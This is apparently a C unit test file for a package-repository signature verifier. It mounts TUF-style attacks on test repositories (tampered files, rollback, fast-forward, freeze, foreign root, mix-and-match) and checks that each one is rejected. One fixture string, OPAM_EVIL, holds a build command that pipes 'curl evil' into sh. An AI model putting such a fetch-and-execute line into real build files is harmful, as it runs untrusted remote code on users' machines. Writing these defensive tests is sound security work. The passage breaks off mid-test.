/*
 * Attacks on the verifier: TUF's ten attacks and every upstream bug of
 * docs/conex-format.md §12 that changes an accept/reject decision.  Each test
 * builds a signed repository, checks that it is accepted (the control, so the
 * test can fail), mounts the attack and checks the rejection and its reason.
 *
 * Repositories come from tests/lib/repobuild (testrepo's shape: root key
 * "root", maintainers m1..mN with a quorum, snapshot "snap", timestamp
 * "timestamp"), signed with in-process Ed25519 keys at NOW.
 */
#include <check.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "conex/patch.h"
#include "conex/repo.h"
#include "conex/state.h"
#include "conex/verify.h"
#include "conex/wire.h"
#include "tests/lib/repobuild.h"
#include "tests/unit/testutil.h"

#define NOW 1764000000 /* 2025-11-24T16:00:00Z */
#define ALG CX_KEY_ED25519

static const char OPAM_FOO[] = "opam-version: \"2.0\"\nname: \"foo\"\n";
static const char OPAM_BAR[] = "opam-version: \"2.0\"\nname: \"bar\"\ndepends: [\"foo\"]\n";
static const char OPAM_EVIL[] =
    "opam-version: \"2.0\"\nbuild: [\"sh\" \"-c\" \"curl evil | sh\"]\n";

/* ---- warnings the verifier logs, kept for assertions ---- */

static char logbuf[1 << 16];
static size_t loglen;

static void
log_fn(void *arg, int level, const char *msg)
{
	int n;

	(void)arg;
	(void)level;
	n = snprintf(logbuf + loglen, sizeof(logbuf) - loglen, "%s\n", msg);
	if (n > 0)
		loglen +=
		    (size_t)n < sizeof(logbuf) - loglen ? (size_t)n : sizeof(logbuf) - loglen - 1;
}

static struct cx_log tlog = {log_fn, NULL, CX_LOG_INFO};

static void
log_reset(void)
{
	loglen = 0;
	logbuf[0] = 0;
}

/* ---- fixture: one world, several copies of its directory under one temp dir ---- */

struct fx {
	struct rb_world w;
	char *tmp;
	char *base; /* tmp/v1: where the world starts */
	char *strs[64];
	int nstrs;
	const char *anchors[1];
};

static const char *
fx_str(struct fx *f, char *s)
{
	ck_assert_int_lt(f->nstrs, 64);
	f->strs[f->nstrs++] = s;
	return s;
}

/* tmp/name, kept until fx_free. */
static const char *
fx_path(struct fx *f, const char *dir, const char *rel)
{
	char *p;

	ck_assert_int_ge(asprintf(&p, "%s/%s", dir, rel), 0);
	return fx_str(f, p);
}

static void
fx_files(struct rb_world *w)
{
	rb_world_file(w, "packages/foo/foo.1.0.0/opam", OPAM_FOO);
	rb_world_file(w, "packages/foo/foo.1.0.0/files/fix.patch", "--- a\n+++ b\n");
	rb_world_file(w, "packages/bar/bar.0.1/opam", OPAM_BAR);
}

/* nm maintainers, quorum q; signed unless sign is 0. */
static void
fx_init(struct fx *f, int nm, int q, int sign)
{
	memset(f, 0, sizeof(*f));
	f->tmp = cx_test_tmpdir();
	ck_assert_int_ge(asprintf(&f->base, "%s/v1", f->tmp), 0);
	rb_world_init(&f->w, f->base, nm, q, ALG, NOW);
	fx_files(&f->w);
	if (sign)
		rb_world_sign_all(&f->w);
	f->anchors[0] = f->w.root->keyid;
	log_reset();
}

static void
fx_free(struct fx *f)
{
	rb_world_free(&f->w);
	cx_test_rm_rf(f->tmp);
	free(f->tmp);
	free(f->base);
	for (int i = 0; i < f->nstrs; i++)
		free(f->strs[i]);
}

/* cp -a from tmp/name; the world now signs into the copy. */
static const char *
fx_copy(struct fx *f, const char *from, const char *name)
{
	const char *dst = fx_path(f, f->tmp, name);

	rb_copy_tree(from, dst);
	rb_world_set_dir(&f->w, dst);
	return dst;
}

static void
fx_opts(struct fx *f, struct cx_verify_opts *o)
{
	memset(o, 0, sizeof(*o));
	o->anchors = f->anchors;
	o->nanchors = 1;
	o->quorum = 1;
	o->root_name = "root";
	o->opam = 1;
	o->strict = 1;
	o->now = NOW;
	o->expiry = 900;
	o->log = &tlog;
}

static int
vdir(
    const char *dir, const struct cx_verify_opts *o, struct cx_verify_result *res, struct cx_err *e)
{
	struct cx_verify_result tmp;
	struct cx_repo *repo;
	int r;

	log_reset();
	memset(e, 0, sizeof(*e));
	if ((r = cx_repo_open(&repo, dir, e)) != 0)
		return r;
	r = cx_verify_full(repo, o, res != NULL ? res : &tmp, e);
	cx_repo_close(repo);
	return r;
}

/* Full verification with the default options. */
static int
vfy(struct fx *f, const char *dir, struct cx_err *e)
{
	struct cx_verify_opts o;

	fx_opts(f, &o);
	return vdir(dir, &o, NULL, e);
}

/* Incremental: old = tmp/a (trusted), the update = `diff -ruaN a b`. */
static int
vinc(struct fx *f, const char *a, const char *b, struct cx_verify_result *res, struct cx_err *e)
{
	struct cx_verify_opts o;
	struct cx_verify_result tmp;
	struct cx_patch *p = NULL;
	struct cx_repo *old = NULL;
	uint8_t *d;
	size_t len;
	int r;

	fx_opts(f, &o);
	log_reset();
	memset(e, 0, sizeof(*e));
	d = rb_diff_ruaN(f->tmp, a, b, &len);
	if ((r = cx_patch_parse(d, len, "update.diff", &p, e)) == 0 &&
	    (r = cx_repo_open(&old, fx_path(f, f->tmp, a), e)) == 0)
		r = cx_verify_incremental(old, p, &o, res != NULL ? res : &tmp, e);
	if (old != NULL)
		cx_repo_close(old);
	if (p != NULL)
		cx_patch_free(p);
	free(d);
	return r;
}

static void
accept_(int r, const struct cx_err *e, int line)
{
	ck_assert_msg(r == 0, "line %d: expected acceptance, got %s: %s\nlog:\n%s", line,
	    cx_code_str(r), e->msg, logbuf);
}

static void
reject_(int r, const struct cx_err *e, const char *s1, const char *s2, int line)
{
	ck_assert_msg(r == CX_EREJECT, "line %d: expected a rejection (%s), got %s: %s", line, s1,
	    cx_code_str(r), e->msg);
	if (getenv("CX_TEST_VERBOSE") != NULL)
		fprintf(stderr, "line %d: rejected: %s\n", line, e->msg);
	ck_assert_msg(
	    strstr(e->msg, s1) != NULL, "line %d: expected '%s' in: %s", line, s1, e->msg);
	ck_assert_msg(s2 == NULL || strstr(e->msg, s2) != NULL, "line %d: expected '%s' in: %s",
	    line, s2, e->msg);
}

/* Both need a struct cx_err e in scope. */
#define ACCEPT(call)         accept_((call), &e, __LINE__)
#define REJECT(call, s1, s2) reject_((call), &e, (s1), (s2), __LINE__)

static void
write_str(const char *dir, const char *rel, const char *s)
{
	rb_write_file(dir, rel, s, strlen(s));
}

static char *
read_str(const char *dir, const char *rel, size_t *len)
{
	char *p;
	uint8_t *d;

	ck_assert_int_ge(asprintf(&p, "%s/%s", dir, rel), 0);
	d = cx_test_read(p, len);
	ck_assert_msg(d != NULL, "%s: cannot read", p);
	free(p);
	return (char *)d;
}

/* Replaces the first occurrence of from in dir/rel; the test fails if there is none. */
static void
edit_file(const char *dir, const char *rel, const char *from, const char *to)
{
	size_t len;
	char *s = read_str(dir, rel, &len), *at, *n;

	at = strstr(s, from);
	ck_assert_msg(at != NULL, "%s: '%s' not found in:\n%s", rel, from, s);
	ck_assert_int_ge(asprintf(&n, "%.*s%s%s", (int)(at - s), s, to, at + strlen(from)), 0);
	write_str(dir, rel, n);
	free(n);
	free(s);
}

static void
rm_file(const char *dir, const char *rel)
{
	char *p;

	ck_assert_int_ge(asprintf(&p, "%s/%s", dir, rel), 0);
	ck_assert_msg(unlink(p) == 0, "unlink %s", p);
	free(p);
}

/* Signs targets t with each of keys (all signatures kept) and writes it to dir/rel. */
static void
sign_targets_keys(struct rb_world *w, struct cx_resource *t, struct rb_key *const *keys, size_t nk,
    const char *sub, const char *rel)
{
	rb_clear_targets(t);
	rb_add_targets_below(&w->a, t, w->dir, sub);
	if (t->nsigs)
		t->counter++;
	t->sigs = NULL;
	t->nsigs = 0;
	for (size_t i = 0; i < nk; i++)
		rb_sign(&w->a, t, keys[i], w->created);
	rb_write(t, w->dir, rel);
}

/* Root re-signed with exactly counter c. */
static void
sign_root_at(struct rb_world *w, uint64_t c)
{
	rb_set_next_counter(w->rroot, c);
	w->rroot->created = w->created;
	rb_sign(&w->a, w->rroot, w->root, w->created);
	rb_write(w->rroot, w->dir, "root");
}

/* Snapshot then timestamp, as after every change of keys/. */
static void
sign_snap_ts(struct rb_world *w)
{
	rb_world_sign_snapshot_keydir(w);
	rb_world_sign_timestamp(w);
}

/*
 * Root rotates the snapshot (or timestamp) key and pins it at a new epoch:
 * the recovery from a compromised role key.  The role file's next counter is 0.
 */
static void
rotate_role(struct rb_world *w, int snapshot, uint64_t epoch)
{
	struct rb_key **kp = snapshot ? &w->snap : &w->ts;
	struct cx_resource *r = snapshot ? w->rsnap : w->rts;
	struct rb_key *nk = rb_key_gen((*kp)->id, w->alg);
	struct cx_keyref ref = rb_remote(nk->id, nk->keyid, epoch);

	if (snapshot)
		w->rroot->role_snapshot = rb_quorum(&w->a, 1, &ref, 1);
	else
		w->rroot->role_timestamp = rb_quorum(&w->a, 1, &ref, 1);
	rb_key_free(*kp);
	*kp = nk;
	r->keys = NULL;
	r->nkeys = 0;
	rb_add_key(&w->a, r, nk);
	r->epoch = epoch;
	rb_set_next_counter(r, 0);
}

/* Adds a delegation of path to identity t (key hash pinned, epoch 0) to the delegating targets d. */
static void
delegate(struct rb_world *w, struct cx_resource *d, const char *path, const struct cx_resource *t,
    int terminating)
{
	char hex[CX_SHA256_HEX + 1];
	struct cx_keyref ref;

	rb_key_hash(t, hex);
	ref = rb_remote(t->name, hex, 0);
	rb_add_delegation(&w->a, d, path, rb_quorum(&w->a, 1, &ref, 1), terminating);
}

/* ======================= TUF's ten attacks ======================= */

START_TEST(test_arbitrary_installation)
{
	struct fx f;
	struct cx_err e;
	const char *d;

	fx_init(&f, 3, 2, 1);
	ACCEPT(vfy(&f, f.base, &e));
	/* a package file changed by the mirror, nobody re-signed it */
	d = fx_copy(&f, f.base, "changed");
	write_str(d, "packages/foo/foo.1.0.0/opam", OPAM_EVIL);
	REJECT(vfy(&f, d, &e), "packages/foo/foo.1.0.0/opam", "does not match its valid targets");
	/* and an unlisted file in files/ of a signed release */
	d = fx_copy(&f, f.base, "changed-files");
	write_str(d, "packages/foo/foo.1.0.0/files/fix.patch", "--- a\n+++ b\n@@ evil\n");
	REJECT(vfy(&f, d, &e), "packages/foo/foo.1.0.0/files/fix.patch", "does not match");
	/* a new package with no targets entry */
	d = fx_copy(&f, f.base, "new");
	write_str(d, "packages/evil/evil.1.0/opam", OPAM_EVIL);
	REJECT(vfy(&f, d, &e), "packages/evil/evil.1.0/opam", "not covered");
	/* a new version of a signed package */
	d = fx_copy(&f, f.base, "newversion");
	write_str(d, "packages/foo/foo.1.0.1/opam", OPAM_FOO);
	REJECT(vfy(&f, d, &e), "packages/foo/foo.1.0.1/opam", "not covered");
	/* a signed file removed (only in targets) */
	d = fx_copy(&f, f.base, "removed");
	rm_file(d, "packages/foo/foo.1.0.0/files/fix.patch");
	REJECT(vfy(&f, d, &e), "packages/foo/foo.1.0.0/files/fix.patch", "missing on disk");
	fx_free(&f);
}
END_TEST

START_TEST(test_endless_data_cap)
{
	struct fx f;
	struct cx_err e;
	struct cx_verify_opts o;
	char pad[10050];
	const char *d;

	fx_init(&f, 3, 2, 1);
	fx_opts(&f, &o);
	o.max_meta = 8192;
	ACCEPT(vdir(f.base, &o, NULL, &e)); /* every metadata file fits under 8 KiB */
	/* a mirror serves an endless keys/m1 */
	d = fx_copy(&f, f.base, "padded");
	memset(pad, 'x', sizeof(pad));
	memcpy(pad, "\n# ", 3);
	pad[sizeof(pad) - 2] = '\n';
	pad[sizeof(pad) - 1] = 0;
	{
		size_t len;
		char *s = read_str(d, "keys/m1", &len), *n;
		ck_assert_int_ge(asprintf(&n, "%s%s", s, pad), 0);
		write_str(d, "keys/m1", n);
		free(n);
		free(s);
	}
	REJECT(vdir(d, &o, NULL, &e), "keys/m1", "larger than the metadata size cap of 8192 bytes");
	/* the first file read is the root */
	o.max_meta = 256;
	REJECT(
	    vdir(f.base, &o, NULL, &e), "root", "larger than the metadata size cap of 256 bytes");
	fx_free(&f);
}
END_TEST

START_TEST(test_endless_data_huge_file)
{
	struct fx f;
	struct cx_err e;
	const char *d;

	fx_init(&f, 2, 1, 1);
	ACCEPT(vfy(&f, f.base, &e));
	/* a timestamp of 64 MiB + 1 (sparse): the default cap refuses it before parsing */
	d = fx_copy(&f, f.base, "huge");
	ck_assert_int_eq(truncate(fx_path(&f, d, "timestamp"), (off_t)CX_VERIFY_MAX_META + 1), 0);
	REJECT(vfy(&f, d, &e), "timestamp", "larger than the metadata size cap");
	/* the same for a keys/ file */
	d = fx_copy(&f, f.base, "hugekeys");
	ck_assert_int_eq(truncate(fx_path(&f, d, "keys/m2"), (off_t)CX_VERIFY_MAX_META + 1), 0);
	REJECT(vfy(&f, d, &e), "keys/m2", "larger than the metadata size cap");
	fx_free(&f);
}
END_TEST

START_TEST(test_extraneous_dependencies)
{
	struct fx f;
	struct cx_err e;
	const char *d;

	fx_init(&f, 3, 2, 1);
	ACCEPT(vfy(&f, f.base, &e));
	/* bar's validly signed opam file served as foo's: digests are bound to paths */
	d = fx_copy(&f, f.base, "swapped");
	write_str(d, "packages/foo/foo.1.0.0/opam", OPAM_BAR);
	REJECT(vfy(&f, d, &e), "packages/foo/foo.1.0.0/opam", "does not match its valid targets");
	/* both swapped */
	write_str(d, "packages/bar/bar.0.1/opam", OPAM_FOO);
	REJECT(vfy(&f, d, &e), "does not match its valid targets", NULL);
	/* a signed release moved to another version: same bytes, another path */
	d = fx_copy(&f, f.base, "moved");
	ck_assert_int_eq(rename(fx_path(&f, d, "packages/foo/foo.1.0.0"),
	                     fx_path(&f, d, "packages/foo/foo.2.0.0")),
	    0);
	REJECT(vfy(&f, d, &e), "packages/foo/foo.2.0.0/", "not covered");
	fx_free(&f);
}
END_TEST

START_TEST(test_fast_forward_snapshot)
{
	struct fx f;
	struct cx_err e;
	struct cx_verify_opts o;
	struct cx_verify_result r1, rff, rl, rrec, rrec2;
	struct cx_counters st;
	struct rb_world *w;
	const char *ff, *legit, *rec, *rec2;
	char *statepath;
	int found;

	fx_init(&f, 2, 1, 1);
	w = &f.w;
	fx_opts(&f, &o);
	ACCEPT(vdir(f.base, &o, &r1, &e));
	ck_assert(r1.c.has_snapshot && r1.c.snap_counter == 0 && r1.c.snap_epoch == 0);
	ck_assert_int_eq(
	    cx_state_path(fx_path(&f, f.tmp, "state"), f.anchors, 1, &statepath, &e), 0);
	ck_assert_int_eq(cx_state_store(statepath, &r1.c, &e), 0);

	/* the compromised snapshot key pushes the counter to the end of its range */
	ff = fx_copy(&f, f.base, "ff");
	rb_set_next_counter(w->rsnap, UINT64_MAX);
	rb_world_sign_snapshot(w);
	rb_world_sign_timestamp(w);
	ACCEPT(vdir(ff, &o, &rff, &e)); /* validly signed: a client takes it */
	ck_assert(rff.c.snap_counter == UINT64_MAX);
	ck_assert_int_eq(cx_state_load(statepath, &st, &found, &e), 0);
	ck_assert(found);
	ACCEPT(cx_counters_check(&st, &rff.c, &e));
	ck_assert_int_eq(cx_state_store(statepath, &rff.c, &e), 0);

	/* every legitimate snapshot after it is refused */
	legit = fx_copy(&f, f.base, "legit");
	rb_set_next_counter(w->rsnap, 1);
	rb_world_sign_snapshot(w);
	rb_world_sign_timestamp(w);
	ACCEPT(vdir(legit, &o, &rl, &e));
	ck_assert_int_eq(cx_state_load(statepath, &st, &found, &e), 0);
	REJECT(cx_counters_check(&st, &rl.c, &e), "snapshot counter is moving backwards", NULL);
	REJECT(vinc(&f, "ff", "legit", NULL, &e), "snapshot counter is moving backwards", NULL);

	/* recovery: root rotates the snapshot key at epoch 1, the counter restarts at 0 */
	rec = fx_copy(&f, legit, "rec");
	rotate_role(w, 1, 1);
	rb_world_sign_root(w);
	rb_world_sign_snapshot(w);
	rb_world_sign_timestamp(w);
	ACCEPT(vdir(rec, &o, &rrec, &e));
	ck_assert(rrec.c.snap_epoch == 1 && rrec.c.snap_counter == 0);
	ck_assert_int_eq(cx_state_load(statepath, &st, &found, &e), 0);
	ACCEPT(cx_counters_check(&st, &rrec.c, &e));
	ck_assert_int_eq(cx_state_store(statepath, &rrec.c, &e), 0);
	ACCEPT(vinc(&f, "ff", "rec", NULL, &e));
	/* the fast-forwarded snapshot cannot come back */
	ck_assert_int_eq(cx_state_load(statepath, &st, &found, &e), 0);
	REJECT(cx_counters_check(&st, &rff.c, &e), "moving backwards", NULL);
	/* within the new epoch the counter is monotonic again */
	rec2 = fx_copy(&f, rec, "rec2");
	rb_set_next_counter(w->rsnap, 5);
	rb_world_sign_snapshot(w);
	rb_world_sign_timestamp(w);
	ACCEPT(vdir(rec2, &o, &rrec2, &e));
	ACCEPT(cx_counters_check(&st, &rrec2.c, &e));
	ck_assert_int_eq(cx_state_store(statepath, &rrec2.c, &e), 0);
	ck_assert_int_eq(cx_state_load(statepath, &st, &found, &e), 0);
	REJECT(cx_counters_check(&st, &rrec.c, &e), "snapshot counter is moving backwards", NULL);
	REJECT(vinc(&f, "rec2", "rec", NULL, &e), "snapshot counter is moving backwards", NULL);
	ACCEPT(vinc(&f, "rec", "rec2", NULL, &e));
	free(statepath);
	fx_free(&f);
}
END_TEST

START_TEST(test_fast_forward_timestamp)
{
	struct fx f;
	struct cx_err e;
	struct cx_verify_opts o;
	struct cx_verify_result rff, rl, rrec;
	struct rb_world *w;
	const char *legit, *rec;

	fx_init(&f, 2, 1, 1);
	w = &f.w;
	fx_opts(&f, &o);
	fx_copy(&f, f.base, "ff");
	rb_set_next_counter(w->rts, UINT64_MAX);
	rb_world_sign_timestamp(w);
	ACCEPT(vdir(fx_path(&f, f.tmp, "ff"), &o, &rff, &e));
	ck_assert(rff.c.ts_counter == UINT64_MAX);
	legit = fx_copy(&f, f.base, "legit");
	rb_set_next_counter(w->rts, 1);
	rb_world_sign_timestamp(w);
	ACCEPT(vdir(legit, &o, &rl, &e));
	REJECT(cx_counters_check(&rff.c, &rl.c, &e), "timestamp counter is moving backwards", NULL);
	REJECT(vinc(&f, "ff", "legit", NULL, &e), "timestamp counter is moving backwards", NULL);
	/* recovery by a new timestamp key at epoch 1 */
	rec = fx_copy(&f, legit, "rec");
	rotate_role(w, 0, 1);
	rb_world_sign_root(w);
	rb_world_sign_timestamp(w);
	ACCEPT(vdir(rec, &o, &rrec, &e));
	ck_assert(rrec.c.ts_epoch == 1 && rrec.c.ts_counter == 0);
	ACCEPT(cx_counters_check(&rff.c, &rrec.c, &e));
	ACCEPT(vinc(&f, "ff", "rec", NULL, &e));
	/* back to the old epoch: refused */
	REJECT(cx_counters_check(&rrec.c, &rl.c, &e), "moving backwards", NULL);
	REJECT(vinc(&f, "rec", "legit", NULL, &e), "root counter decremented", NULL);
	fx_free(&f);
}
END_TEST

START_TEST(test_counters_check_rules)
{
	struct cx_counters a, b;
	struct cx_err e;

	memset(&a, 0, sizeof(a));
	a.has_snapshot = a.has_timestamp = 1;
	a.root_counter = 3;
	a.snap_counter = UINT64_MAX;
	a.ts_counter = 7;
	b = a;
	ACCEPT(cx_counters_check(&a, &b, &e)); /* the same state again (no update) */
	b.snap_counter = 0;
	REJECT(cx_counters_check(&a, &b, &e), "snapshot counter is moving backwards", NULL);
	b.snap_epoch = 1; /* a bigger epoch restarts the counter */
	ACCEPT(cx_counters_check(&a, &b, &e));
	REJECT(cx_counters_check(&b, &a, &e), "snapshot epoch is moving backwards", NULL);
	b = a;
	b.ts_counter = 6;
	REJECT(cx_counters_check(&a, &b, &e), "timestamp counter is moving backwards", NULL);
	b.ts_epoch = 2;
	ACCEPT(cx_counters_check(&a, &b, &e));
	b = a;
	b.root_counter = 2;
	REJECT(cx_counters_check(&a, &b, &e), "root counter is moving backwards", NULL);
	b.root_epoch = 1;
	ACCEPT(cx_counters_check(&a, &b, &e));
	REJECT(cx_counters_check(&b, &a, &e), "root epoch is moving backwards", NULL);
	b = a;
	b.has_timestamp = 0;
	REJECT(cx_counters_check(&a, &b, &e), "timestamp role disappeared", NULL);
	b = a;
	b.has_snapshot = 0;
	REJECT(cx_counters_check(&a, &b, &e), "snapshot role disappeared", NULL);
}
END_TEST

/* Indefinite freeze, and §12.2: upstream never rejects a stale timestamp. */
START_TEST(test_indefinite_freeze)
{
	struct fx f;
	struct cx_err e;
	struct cx_verify_opts o;

	fx_init(&f, 2, 1, 1);
	fx_opts(&f, &o);
	ACCEPT(vdir(f.base, &o, NULL, &e));
	o.now = NOW + 900; /* as old as it may be */
	ACCEPT(vdir(f.base, &o, NULL, &e));
	o.now = NOW + 901;
	REJECT(vdir(f.base, &o, NULL, &e), "timestamp", "stale");
	o.now = NOW + 14 * 30 * 86400; /* upstream accepted a 14-month-old timestamp */
	REJECT(vdir(f.base, &o, NULL, &e), "timestamp", "stale");
	o.now = NOW - 900; /* clock skew within the window */
	ACCEPT(vdir(f.base, &o, NULL, &e));
	o.now = NOW - 901;
	REJECT(vdir(f.base, &o, NULL, &e), "timestamp", "in the future");
	/* a longer expiry accepts the older one */
	o.now = NOW + 3600;
	o.expiry = 3600;
	ACCEPT(vdir(f.base, &o, NULL, &e));
	/* created with an offset (§12.8: upstream added it): 17:00+01:00 is NOW */
	{
		struct rb_world *w = &f.w;
		const char *d = fx_copy(&f, f.base, "offset");
		w->rts->created = "2025-11-24T17:00:00+01:00";
		rb_set_next_counter(w->rts, 1);
		rb_sign(&w->a, w->rts, w->ts, w->created);
		rb_write(w->rts, d, "timestamp");
		o.expiry = 900;
		o.now = NOW + 900;
		ACCEPT(vdir(d, &o, NULL, &e));
		o.now = NOW + 901;
		REJECT(vdir(d, &o, NULL, &e), "timestamp", "stale");
		o.now = NOW - 900;
		ACCEPT(vdir(d, &o, NULL, &e));
		o.now = NOW - 901;
		REJECT(vdir(d, &o, NULL, &e), "timestamp", "in the future");
	}
	fx_free(&f);
}
END_TEST

START_TEST(test_malicious_mirror_foreign_root)
{
	struct fx f, g;
	struct cx_err e;

	fx_init(&f, 2, 1, 1);
	fx_init(&g, 2, 1, 1); /* the mirror's own, equally well-formed, repository */
	rb_world_file(&g.w, "packages/evil/evil.1.0/opam", OPAM_EVIL);
	rb_world_sign_maintainer(&g.w, 0);
	rb_world_sign_maintainer(&g.w, 1);
	rb_world_sign_snapshot(&g.w);
	rb_world_sign_timestamp(&g.w);
	ACCEPT(vfy(&g, g.base, &e)); /* with its own anchor */
	ACCEPT(vfy(&f, f.base, &e));
	REJECT(vfy(&f, g.base, &e), "root", "couldn't validate root role");
	fx_free(&g);
	fx_free(&f);
}
END_TEST

START_TEST(test_malicious_mirror_role_keys)
{
	struct fx f;
	struct cx_err e;
	struct rb_world *w;
	struct rb_key *mk;
	const char *d;

	fx_init(&f, 2, 1, 1);
	w = &f.w;
	ACCEPT(vfy(&f, f.base, &e));
	/* root whose "root" key is the mirror's, signed by it */
	d = fx_copy(&f, f.base, "root");
	mk = rb_key_gen("root", ALG);
	w->rroot->keys = NULL;
	w->rroot->nkeys = 0;
	rb_add_key(&w->a, w->rroot, mk);
	rb_set_next_counter(w->rroot, w->rroot->counter + 1);
	rb_sign(&w->a, w->rroot, mk, w->created);
	rb_write(w->rroot, d, "root");
	REJECT(vfy(&f, d, &e), "root", "couldn't validate root role");
	/* the mirror's key added next to the real one, signed by the mirror only */
	rb_key_free(mk);
	mk = rb_key_gen("mirror", ALG);
	w->rroot->keys = NULL;
	w->rroot->nkeys = 0;
	rb_add_key(&w->a, w->rroot, w->root);
	rb_add_key(&w->a, w->rroot, mk);
	{
		struct cx_keyref l[2] = {rb_local("root"), rb_local("mirror")};
		w->rroot->valid = rb_quorum(&w->a, 1, l, 2);
	}
	rb_set_next_counter(w->rroot, w->rroot->counter + 1);
	rb_sign(&w->a, w->rroot, mk, w->created);
	rb_write(w->rroot, d, "root");
	REJECT(vfy(&f, d, &e), "root", "couldn't validate root role");
	/* control: the same root signed by the anchored key as well */
	rb_sign(&w->a, w->rroot, w->root, w->created);
	rb_write(w->rroot, d, "root");
	ACCEPT(vfy(&f, d, &e));
	rb_key_free(mk);

	/* a timestamp signed by a key the root does not pin */
	d = fx_copy(&f, f.base, "ts");
	mk = rb_key_gen("timestamp", ALG);
	w->rts->keys = NULL;
	w->rts->nkeys = 0;
	rb_add_key(&w->a, w->rts, mk);
	rb_set_next_counter(w->rts, 1);
	rb_sign(&w->a, w->rts, mk, w->created);
	rb_write(w->rts, d, "timestamp");
	REJECT(vfy(&f, d, &e), "timestamp", "couldn't validate timestamp signature");
	rb_key_free(mk);

	/* a snapshot signed by a key the root does not pin, with a good timestamp */
	d = fx_copy(&f, f.base, "snap");
	w->rts->keys = NULL;
	w->rts->nkeys = 0;
	rb_add_key(&w->a, w->rts, w->ts);
	mk = rb_key_gen("snap", ALG);
	w->rsnap->keys = NULL;
	w->rsnap->nkeys = 0;
	rb_add_key(&w->a, w->rsnap, mk);
	rb_set_next_counter(w->rsnap, 1);
	rb_sign(&w->a, w->rsnap, mk, w->created);
	rb_write(w->rsnap, d, "snap");
	rb_world_sign_timestamp(w);
	REJECT(vfy(&f, d, &e), "snap", "couldn't validate snapshot signature");
	rb_key_free(mk);
	fx_free(&f);
}
END_TEST

START_TEST(test_mix_and_match)
{
	struct fx f;
	struct cx_err e;
	struct rb_world *w;
	size_t m1len, snaplen;
	char *m1old, *snapold;
	const char *v2, *d;

	fx_init(&f, 3, 2, 1);
	w = &f.w;
	m1old = read_str(f.base, "keys/m1", &m1len);
	snapold = read_str(f.base, "snap", &snaplen);
	v2 = fx_copy(&f, f.base, "v2");
	rb_world_file(w, "packages/foo/foo.2.0.0/opam", OPAM_FOO);
	for (int i = 0; i < 3; i++)
		rb_world_sign_maintainer(w, i);
	rb_world_sign_snapshot(w);
	rb_world_sign_timestamp(w);
	ACCEPT(vfy(&f, v2, &e));
	/* m1's targets from the older snapshot with the newer snapshot */
	d = fx_copy(&f, v2, "oldm1");
	write_str(d, "keys/m1", m1old);
	REJECT(vfy(&f, d, &e), "keys/m1", "does not match snapshot");
	/* the older snapshot with the newer timestamp */
	d = fx_copy(&f, v2, "oldsnap");
	write_str(d, "snap", snapold);
	REJECT(vfy(&f, d, &e), "snap", "no match in timestamp target");
	/* a keys/ file that is not in the snapshot (a copy of a valid one) */
	d = fx_copy(&f, v2, "extra");
	write_str(d, "keys/m9", m1old);
	REJECT(vfy(&f, d, &e), "keys/m9", "not listed in snapshot");
	/* the snapshot lists a file that does not exist */
	d = fx_copy(&f, v2, "missing");
	rm_file(d, "keys/m3");
	REJECT(vfy(&f, d, &e), "keys/m3", "does not exist");
	free(m1old);
	free(snapold);
	fx_free(&f);
}
END_TEST

/* A v1 with root 3, m1 5, snapshot 5, timestamp 5, and patches that lower each. */
START_TEST(test_rollback_incremental)
{
	struct fx f;
	struct cx_err e;
	struct rb_world *w;

	fx_init(&f, 3, 2, 0);
	w = &f.w;
	sign_root_at(w, 3);
	for (int i = 0; i < 3; i++)
		rb_world_sign_maintainer(w, i);
	rb_set_next_counter(w->rm[0], 5);
	rb_world_sign_maintainer(w, 0);
	rb_set_next_counter(w->rsnap, 5);
	rb_world_sign_snapshot(w);
	rb_set_next_counter(w->rts, 5);
	rb_world_sign_timestamp(w);
	ACCEPT(vfy(&f, f.base, &e));

	/* control: m1 moves forward */
	fx_copy(&f, f.base, "up");
	rb_set_next_counter(w->rm[0], 6);
	rb_world_sign_maintainer(w, 0);
	rb_world_sign_snapshot(w);
	rb_world_sign_timestamp(w);
	ACCEPT(vinc(&f, "v1", "up", NULL, &e));
	/* m1 goes back to 3 */
	fx_copy(&f, f.base, "targets");
	rb_set_next_counter(w->rm[0], 3);
	rb_world_sign_maintainer(w, 0);
	rb_world_sign_snapshot(w);
	rb_world_sign_timestamp(w);
	ACCEPT(vfy(&f, fx_path(&f, f.tmp, "targets"), &e)); /* valid on its own */
	REJECT(vinc(&f, "v1", "targets", NULL, &e), "counter of m1 is moving backwards", NULL);
	/* m1 re-signed with the same counter */
	fx_copy(&f, f.base, "same");
	rb_set_next_counter(w->rm[0], 5);
	w->rm[0]->created = "2025-11-24T15:00:00Z";
	rb_world_sign_maintainer(w, 0);
	rb_world_sign_snapshot(w);
	rb_world_sign_timestamp(w);
	REJECT(vinc(&f, "v1", "same", NULL, &e), "m1", "expected to increase");
	/* snapshot back to 2 */
	fx_copy(&f, f.base, "snapshot");
	rb_set_next_counter(w->rsnap, 2);
	rb_world_sign_snapshot(w);
	rb_world_sign_timestamp(w);
	REJECT(vinc(&f, "v1", "snapshot", NULL, &e), "snapshot counter is moving backwards", NULL);
	/* timestamp back to 2 */
	fx_copy(&f, f.base, "timestamp");
	rb_set_next_counter(w->rts, 2);
	rb_world_sign_timestamp(w);
	REJECT(
	    vinc(&f, "v1", "timestamp", NULL, &e), "timestamp counter is moving backwards", NULL);
	/* root back to 2 */
	fx_copy(&f, f.base, "root");
	sign_root_at(w, 2);
	REJECT(vinc(&f, "v1", "root", NULL, &e), "root counter decremented", NULL);
	/* root changed, counter unchanged */
	fx_copy(&f, f.base, "rootsame");
	w->rroot->created = "2025-11-24T15:00:00Z";
	rb_set_next_counter(w->rroot, 3);
	rb_sign(&w->a, w->rroot, w->root, "2025-11-24T15:00:00Z");
	rb_write(w->rroot, w->dir, "root");
	REJECT(vinc(&f, "v1", "rootsame", NULL, &e), "root counter same", NULL);
	/* control: root forward */
	fx_copy(&f, f.base, "rootup");
	sign_root_at(w, 4);
	ACCEPT(vinc(&f, "v1", "rootup", NULL, &e));
	fx_free(&f);
}
END_TEST

/* Rollback across full fetches: the state file remembers what was accepted (§12.3). */
START_TEST(test_rollback_full_state)
{
	struct fx f;
	struct cx_err e;
	struct cx_verify_opts o;
	struct cx_verify_result r1, r2, r3;
	struct cx_counters st;
	struct rb_world *w;
	char *statepath;
	const char *v2, *v3;
	int found;

	fx_init(&f, 2, 1, 1);
	w = &f.w;
	fx_opts(&f, &o);
	v2 = fx_copy(&f, f.base, "v2");
	rb_world_file(w, "packages/foo/foo.2.0.0/opam", OPAM_FOO);
